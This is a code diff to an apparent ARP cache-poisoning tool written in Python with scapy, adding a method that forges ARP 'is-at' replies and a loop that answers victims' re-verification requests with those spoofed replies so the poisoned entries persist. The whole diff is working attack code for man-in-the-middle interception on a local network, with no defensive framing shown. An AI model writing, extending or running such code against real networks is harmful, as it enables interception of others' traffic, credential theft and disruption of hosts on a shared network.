@@ -91,6 +91,18 @@ class Poisoning:
         """
         return _request(self._mac, self._real[victim], mac, about, victim)
 
+    def _answer(self, victim: str, about: str) -> bytes:
+        """The false reply to a victim that asks for the address `about`.
+
+        A victim whose connection was silent asks the MAC address that it has, three times (RFC 1122 §2.3.2.1). A
+        request does not confirm that entry; without a reply the victim asks all hosts, and the true one answers.
+        """
+        from scapy.layers.l2 import ARP, Ether
+
+        real = self._real[victim]
+        reply = ARP(op="is-at", hwsrc=self._mac, psrc=about, hwdst=real, pdst=victim)
+        return bytes(Ether(src=self._mac, dst=real) / reply)
+
     def _until_answered(self, questions: dict[str, bytes]) -> dict[str, str]:
         """Send the requests until each host has answered: IP address -> the MAC address in its reply."""
         answers: dict[str, str] = {}
@@ -101,7 +113,7 @@ class Poisoning:
             for ip in missing:
                 self._socket.send(questions[ip])
             while missing - answers.keys() and select.select([self._socket], [], [], _RETRY)[0]:
-                answers |= {ip: mac for operation, mac, ip in self._received() if operation == "is-at"}
+                answers |= {ip: mac for operation, mac, ip, _ in self._received() if operation == "is-at"}
         return answers
 
     def _run(self) -> None:
@@ -111,19 +123,23 @@ class Poisoning:
                 ready, _, _ = select.select([self._socket, self._alarm], [], [], _AGAIN)
                 if self._alarm in ready:
                     return
-                asked = any(operation == "who-has" for operation, _, _ in self._received())
+                asked = [(ip, about) for operation, _, ip, about in self._received() if operation == "who-has"]
+                for victim, about in set(asked).intersection(self._pairs):
+                    self._socket.send(self._answer(victim, about))
                 if asked or not ready:
                     self._claim_all()
 
-    def _received(self) -> Iterator[tuple[str, str, str]]:
-        """(operation, MAC address, IP address) of each ARP packet that other hosts have sent since the last call."""
+    def _received(self) -> Iterator[tuple[str, str, str, str]]:
+        """(operation, MAC and IP address of the sender, IP address of the target) of each ARP packet that other hosts
+        have sent since the last call.
+        """
         from scapy.layers.l2 import ARP, Ether
 
         with suppress(BlockingIOError):
             while True:
                 packet = Ether(self._socket.recv(_LARGEST, socket.MSG_DONTWAIT))
                 if ARP in packet and packet[ARP].hwsrc != self._mac:
-                    yield packet.sprintf("%ARP.op%"), packet[ARP].hwsrc, packet[ARP].psrc
+                    yield packet.sprintf("%ARP.op%"), packet[ARP].hwsrc, packet[ARP].psrc, packet[ARP].pdst
 
 
 class NeighbourEntries:
